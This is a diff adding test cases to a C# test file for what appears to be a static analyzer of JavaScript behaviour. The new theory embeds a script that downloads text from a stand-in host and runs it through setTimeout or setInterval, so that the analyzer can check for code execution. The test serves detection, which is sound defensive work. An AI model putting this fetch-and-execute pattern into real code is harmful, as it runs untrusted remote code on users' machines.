@@ -252,4 +252,13 @@ public sealed class FlowTests
     [InlineData("require('net').createConnection(port, host)", true)]
     public void What_goes_to_the_machine_itself_leaves_nothing(string code, bool leaves) =>
         (Read.Script(code).Has("network.send") || Read.Script(code).Has("network.socket")).ShouldBe(leaves, Read.Script(code).Names());
+
+    [Theory]
+    [InlineData("setTimeout(code)", true)]
+    [InlineData("setInterval(code, 10)", true)]
+    [InlineData("queueMicrotask(code)", false)]
+    [InlineData("setImmediate(code)", false)]
+    [InlineData("process.nextTick(code)", false)]
+    public void Timers_run_text_as_code_and_queues_do_not(string call, bool runs) =>
+        Read.Script($"async function f() {{ const code = await (await fetch('https://x.invalid/y')).text(); {call} }} f()").Has("execute.code").ShouldBe(runs);
 }
